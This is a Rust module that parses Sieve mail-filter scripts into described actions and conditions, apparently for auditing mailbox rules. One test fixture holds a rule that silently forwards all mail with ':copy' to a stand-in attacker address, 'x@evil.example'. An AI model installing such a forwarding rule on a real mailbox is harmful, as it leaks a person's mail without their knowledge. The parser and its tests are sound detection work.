//! Sieve scripts (RFC 5228): what a mailbox does with mail when nobody looks.
//!
//! - [`lexer`] cuts a script into tokens;
//! - [`parser`] builds commands and tests, going on after what it cannot read;
//! - this file turns them into [`Action`]s with their conditions in words.
//!
//! Unknown extensions parse by the common grammar of all Sieve commands, so an action of an
//! extension nobody has heard of is still listed, as [`ActionKind::Other`].

pub mod lexer;
pub mod parser;

use std::ops::Range;

use parser::{Argument, Command, Test};

/// A script, read.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// Extensions that the script asks for.
    pub requires: Vec<String>,
    /// Actions in order, with what must hold for them.
    pub actions: Vec<Action>,
    /// What could not be read.
    pub errors: Vec<ScriptError>,
}

/// A part of a script that could not be read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ScriptError {
    /// Byte offset.
    pub offset: usize,
    /// What is wrong.
    pub reason: String,
}

/// What an action does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ActionKind {
    /// Sends the message on (RFC 5228); `copy` tells whether it is kept too.
    Redirect,
    /// Puts it into a mailbox.
    FileInto,
    /// Drops it without a word.
    Discard,
    /// Keeps it in INBOX.
    Keep,
    /// Refuses it (RFC 5429), `ereject` too.
    Reject,
    /// Answers (RFC 5230).
    Vacation,
    /// Ends the script.
    Stop,
    /// Sets, adds or removes flags (RFC 5232).
    Flags,
    /// Adds or deletes a header field (RFC 5293).
    EditHeader,
    /// Notifies (RFC 5435).
    Notify,
    /// Runs another script (RFC 6609).
    Include,
    /// Gives the message to a program (Pigeonhole's extprograms).
    Program,
    /// Any other command, by name.
    Other(String),
}

/// An action with its conditions.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Action {
    /// What it does.
    pub kind: ActionKind,
    /// Address, mailbox, text, … as written; several separated by ", ".
    pub argument: String,
    /// The message stays in the mailbox as well (`:copy`), so the owner notices nothing.
    pub copy: bool,
    /// What must hold, outermost first, in words; empty for every message.
    pub conditions: Vec<String>,
    /// Name in the comment that the webmail wrote before the rule, `""` if none.
    pub rule: String,
    /// The rule is switched off (`if false`).
    pub disabled: bool,
    /// Tags of the command (":copy", ":days").
    pub tags: Vec<String>,
    /// Where the command stands in the script, in octets.
    pub range: Range<usize>,
}

/// Reads a script. Never fails; see [`Script::errors`].
pub fn parse(script: &[u8]) -> Script {
    let (tokens, mut errors) = lexer::tokens(script);
    let (commands, more) = parser::commands(&tokens);
    errors.extend(more);
    errors.sort_by_key(|e| e.offset);
    let mut out = Script {
        errors,
        ..Script::default()
    };
    let comments: Vec<(usize, String)> = tokens
        .iter()
        .filter_map(|t| match &t.kind {
            lexer::Kind::Comment(c) => Some((t.range.start, c.clone())),
            _ => None,
        })
        .collect();
    let context = Context {
        comments: &comments,
        conditions: Vec::new(),
        rule: String::new(),
        disabled: false,
    };
    collect(&commands, &context, 0, &mut out);
    out
}

#[derive(Clone)]
struct Context<'c> {
    comments: &'c [(usize, String)],
    conditions: Vec<String>,
    rule: String,
    disabled: bool,
}

fn collect(commands: &[Command], context: &Context<'_>, after: usize, out: &mut Script) {
    let mut after = after;
    let mut refused: Vec<String> = Vec::new();
    // A name holds for the rule that follows it: an if with its elsif and else.
    let mut rule = context.rule.clone();
    for command in commands {
        let name = command.name.to_ascii_lowercase();
        if let Some(found) = rule_name(context.comments, after, command.range.start) {
            rule = found;
        }
        match name.as_str() {
            "require" => {
                out.requires
                    .extend(command.arguments.iter().flat_map(Argument::strings));
            }
            "if" | "elsif" | "else" => {
                if name == "if" {
                    refused.clear();
                }
                let mut inner = context.clone();
                inner.rule.clone_from(&rule);
                inner
                    .conditions
                    .extend(refused.iter().map(|r| format!("not ({r})")));
                if let Some(test) = &command.test {
                    let off = test.name.eq_ignore_ascii_case("false");
                    let words = match comment_on_line(context.comments, test, command) {
                        Some(hidden) if off => format!("(switched off) {hidden}"),
                        _ => describe(test),
                    };
                    inner.disabled |= off;
                    if !test.name.eq_ignore_ascii_case("true") {
                        inner.conditions.push(words.clone());
                    }
                    if !off {
                        refused.push(words);
                    }
                }
                if let Some(block) = &command.block {
                    // The comment before the brace belongs to the test, not to the first command.
                    let start = block.first().map_or(command.range.end, |c| c.range.start);
                    collect(block, &inner, start, out);
                }
            }
            _ => {
                if let Some(action) = action(command, &name, context, &rule) {
                    out.actions.push(action);
                }
                if let Some(block) = &command.block {
                    let mut inner = context.clone();
                    inner.conditions.push(name.clone());
                    collect(block, &inner, command.range.start, out);
                }
            }
        }
        after = command.range.end;
    }
}

fn action(command: &Command, name: &str, context: &Context<'_>, rule: &str) -> Option<Action> {
    let kind = match name {
        "redirect" => ActionKind::Redirect,
        "fileinto" => ActionKind::FileInto,
        "discard" => ActionKind::Discard,
        "keep" => ActionKind::Keep,
        "reject" | "ereject" => ActionKind::Reject,
        "vacation" => ActionKind::Vacation,
        "stop" => ActionKind::Stop,
        "setflag" | "addflag" | "removeflag" => ActionKind::Flags,
        "addheader" | "deleteheader" => ActionKind::EditHeader,
        "notify" => ActionKind::Notify,
        "include" => ActionKind::Include,
        "pipe" | "filter" | "execute" => ActionKind::Program,
        // Declarations and variables do nothing to the message.
        "set" | "global" | "import" | "export" | "return" => return None,
        other => ActionKind::Other(other.to_owned()),
    };
    // The value of a tag (":days 7", ":addresses [...]") is not what the action is about: the
    // last positional string is.
    let argument = match kind {
        ActionKind::EditHeader | ActionKind::Program => command
            .arguments
            .iter()
            .flat_map(Argument::strings)
            .collect::<Vec<_>>(),
        _ => command
            .arguments
            .iter()
            .rev()
            .find(|a| a.is_string())
            .map(Argument::strings)
            .unwrap_or_default(),
    };
    let tags: Vec<String> = command
        .arguments
        .iter()
        .filter_map(|a| match a {
            Argument::Tag(t) => Some(t.to_ascii_lowercase()),
            _ => None,
        })
        .collect();
    Some(Action {
        kind,
        argument: argument.join(", "),
        copy: tags.iter().any(|t| t == ":copy"),
        conditions: context.conditions.clone(),
        rule: rule.to_owned(),
        disabled: context.disabled,
        tags,
        range: command.range.clone(),
    })
}

/// The rule name in the last comment between two offsets, in the forms of Roundcube
/// (`# rule:[name]`), Horde Ingo (`# name`), Zimbra (`# name`), SmartSieve (`Rulename: name`).
fn rule_name(comments: &[(usize, String)], from: usize, to: usize) -> Option<String> {
    comments
        .iter()
        .filter(|(at, _)| (from..to).contains(at))
        .rev()
        .find_map(|(_, comment)| {
            let text = comment.trim_matches(['#', ' ', '\t', '\r', '*', '/']);
            if let Some(name) = text.strip_prefix("rule:[") {
                return Some(name.trim_end_matches(']').to_owned());
            }
            if let Some((_, name)) = text
                .split_once("Rulename:")
                .or_else(|| text.split_once("Rulename :"))
            {
                return Some(name.trim().to_owned());
            }
            let plain = !text.is_empty() && text.len() <= 120 && !text.contains([';', '{']);
            (plain && !text.starts_with("EDITOR")).then(|| text.to_owned())
        })
}

/// The comment between a test and the block after it: where Roundcube keeps the conditions of a
/// rule that is switched off.
fn comment_on_line(comments: &[(usize, String)], test: &Test, command: &Command) -> Option<String> {
    let end = command
        .block
        .as_ref()
        .and_then(|b| b.first())
        .map_or(command.range.end, |c| c.range.start);
    let (_, text) = comments
        .iter()
        .find(|(at, _)| (test.range.end..end).contains(at))?;
    let text = text.trim_start_matches(['#', ' ']).trim();
    (!text.is_empty()).then(|| crate::text::brief(text, 300))
}

/// A test in words.
pub fn describe(test: &Test) -> String {
    let name = test.name.to_ascii_lowercase();
    let inner: Vec<String> = test.tests.iter().map(describe).collect();
    match name.as_str() {
        "not" => return format!("not ({})", inner.join(", ")),
        "allof" => return inner.join(" and "),
        "anyof" if inner.len() > 1 => return format!("({})", inner.join(" or ")),
        "anyof" => return inner.join(""),
        "true" => return "every message".into(),
        "false" => return "no message".into(),
        _ => {}
    }
    let tags: Vec<String> = test
        .arguments
        .iter()
        .filter_map(|a| match a {
            Argument::Tag(t) => Some(t.to_ascii_lowercase()),
            _ => None,
        })
        .collect();
    let has = |t: &str| tags.iter().any(|x| x == t);
    let strings: Vec<&Argument> = test.arguments.iter().filter(|a| a.is_string()).collect();
    let list = |a: Option<&&Argument>| {
        a.map(|a| {
            a.strings()
                .iter()
                .map(|s| format!("{s:?}"))
                .collect::<Vec<_>>()
                .join(" or ")
        })
        .unwrap_or_default()
    };
    let number = test.arguments.iter().find_map(|a| match a {
        Argument::Number(n) => Some(*n),
        _ => None,
    });
    let comparison = match () {
        () if has(":contains") => "contains",
        () if has(":matches") => "matches",
        () if has(":regex") => "matches the expression",
        () if has(":count") => "counts",
        () if has(":value") => "compares with",
        () => "is",
    };
    match name.as_str() {
        "size" => {
            let side = if has(":over") { "over" } else { "under" };
            format!("size {side} {} octets", number.unwrap_or_default())
        }
        "exists" => format!("header {} exists", list(strings.first())),
        "header" | "address" | "envelope" | "date" | "currentdate" | "environment" | "string"
        | "hasflag" | "mailbox" | "metadata" => {
            let keys = strings
                .last()
                .filter(|_| strings.len() > 1 || name == "hasflag");
            let subject = if strings.len() > 1 {
                list(strings.get(strings.len() - 2))
            } else {
                String::new()
            };
            format!("{name} {subject} {comparison} {}", list(keys)).replace("  ", " ")
        }
        "body" => format!("body {comparison} {}", list(strings.last())),
        other => {
            let words: Vec<String> = test.arguments.iter().map(Argument::shown).collect();
            format!("{other} {}{}", words.join(" "), inner.join(" "))
                .trim()
                .to_owned()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundcube_script_with_a_disabled_rule() {
        let script = b"require [\"copy\",\"fileinto\"];\r\n# rule:[Correo]\r\nif true\r\n{\r\n\tredirect :copy \"x@evil.example\";\r\n}\r\n# rule:[Vieux]\r\nif false # anyof (header :contains \"subject\" \"a\")\r\n{\r\n\tdiscard;\r\n}\r\n# rule:[Tri]\r\nif allof (header :contains [\"subject\",\"x-a\"] [\"mot de passe\",\"alerte\"], not size :over 10K)\r\n{\r\n\tfileinto \"Trash\";\r\n\tstop;\r\n}\r\nelsif exists \"X-Spam\"\r\n{\r\n\tkeep;\r\n}\r\n";
        let s = parse(script);
        assert_eq!(s.errors, []);
        assert_eq!(s.requires, ["copy", "fileinto"]);
        let a = &s.actions[0];
        assert_eq!(
            (
                a.kind.clone(),
                a.argument.as_str(),
                a.copy,
                a.rule.as_str(),
                a.disabled
            ),
            (
                ActionKind::Redirect,
                "x@evil.example",
                true,
                "Correo",
                false
            )
        );
        assert_eq!(a.conditions, Vec::<String>::new());
        assert_eq!(
            &script[a.range.clone()],
            b"redirect :copy \"x@evil.example\";"
        );
        let d = &s.actions[1];
        assert!(d.disabled && d.kind == ActionKind::Discard && d.rule == "Vieux");
        assert_eq!(
            d.conditions,
            ["(switched off) anyof (header :contains \"subject\" \"a\")"]
        );
        let t = &s.actions[2];
        assert_eq!(
            t.conditions,
            [
                "header \"subject\" or \"x-a\" contains \"mot de passe\" or \"alerte\" and not (size over 10240 octets)"
            ]
        );
        assert_eq!((t.argument.as_str(), t.rule.as_str()), ("Trash", "Tri"));
        let k = s.actions.last().unwrap();
        assert_eq!(k.conditions.len(), 2);
        assert!(k.conditions[0].starts_with("not ("));
    }

    #[test]
    fn vacation_multiline_and_unknown_commands() {
        let s = parse(b"require \"vacation\"; vacation :days 7 :addresses [\"a@b\"] text:\r\nAbsent\r\n..x\r\n.\r\n;\r\nfrob :x 5 \"y\" { keep; }\r\n/* c */ if header \"a\" \"b\" { reject \"non\"; }");
        assert_eq!(s.errors, []);
        assert_eq!(s.actions[0].argument, "Absent\r\n.x\r\n");
        assert_eq!(s.actions[1].kind, ActionKind::Other("frob".into()));
        assert_eq!(s.actions[2].conditions, ["frob"]);
        assert_eq!(s.actions[3].argument, "non");
    }

    #[test]
    fn errors_leave_the_rest_readable() {
        let s = parse(b"redirect \"a@b\"\nif header ( { keep; }\n\x00 discard;\nredirect \"c@d\";\nfileinto \"unterminated");
        assert!(!s.errors.is_empty());
        let args: Vec<_> = s.actions.iter().map(|a| a.argument.as_str()).collect();
        assert!(args.contains(&"c@d"), "{args:?} {:?}", s.errors);
        assert!(args.contains(&"a@b"), "{args:?}");
    }
}
